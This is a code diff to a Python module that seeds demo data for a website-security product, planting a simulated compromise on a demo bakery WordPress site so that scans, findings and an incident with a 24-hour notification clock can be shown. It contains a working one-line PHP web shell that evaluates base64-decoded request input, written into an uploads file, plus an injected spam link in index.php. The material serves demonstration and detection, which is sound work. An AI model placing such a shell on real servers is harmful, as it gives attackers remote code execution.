@@ -1,8 +1,10 @@
 """Demo security: the bakery's site tree (made by the backups demo) gets a WordPress core version and a plugin
 that a bundled demo vulnerability feed (`feeds/wordfence-demo.json`, a made-up entry) lists as affected; a
-first scan takes the integrity baseline and finds the vulnerable plugin; then a web shell is planted in the
-uploads and the front controller altered, and the second scan finds both — the web shell escalated by the
-engineer to a security incident with its 24-hour client-notification clock.
+first scan (yesterday) takes the integrity baseline and finds the vulnerable plugin; then a web shell is
+planted in the uploads and the front controller altered, and the second scan (two hours ago) finds both. The
+web shell opens its security incident at detection by itself — the 24-hour client-notification clock of
+clause 6.3 has run for two hours when the engineer first looks (and ticks "maintenance mode"). Every other
+demo site has never been scanned, and its security page says "Never scanned" (staff: agency action needed).
 
 Call `seed_security(now)` after `seed_backups`. Safe to call twice: a site with findings is left alone.
 """
@@ -24,6 +26,7 @@ Plugin Name: Contact Form 7
 Version: 5.7.1
 */
 """
+DETECTED_AGO = dt.timedelta(hours=2)
 SHELL = "<?php if (isset($_REQUEST['c'])) { @eval(base64_decode($_REQUEST['c'])); } ?>\n"
 
 
@@ -46,11 +49,11 @@ def seed_security(now: dt.datetime) -> int:
     (uploads / "cache-img.php").write_text(SHELL)
     index = root / "index.php"
     index.write_text(index.read_text() + "/* injected */ echo '<a href=\"https://casino.example\">.</a>';\n")
-    scans.scan_site(site, now=now)
+    scans.scan_site(site, now=now - DETECTED_AGO)  # the incident and its 6.3 clock open here, by themselves
     engineer = User.objects.filter(role=Role.ENGINEER).order_by("pk").first()
     shell = Finding.objects.filter(site=site, kind="malware").order_by("pk").first()
-    if engineer is not None and shell is not None:
-        incident = incidents.escalate(shell, engineer, at=now)
+    incident = incidents.current(shell) if shell is not None else None
+    if engineer is not None and incident is not None:
         incidents.tick(
             incident, "maintenance", engineer, note="Maintenance mode on while we clean up.", at=now
         )
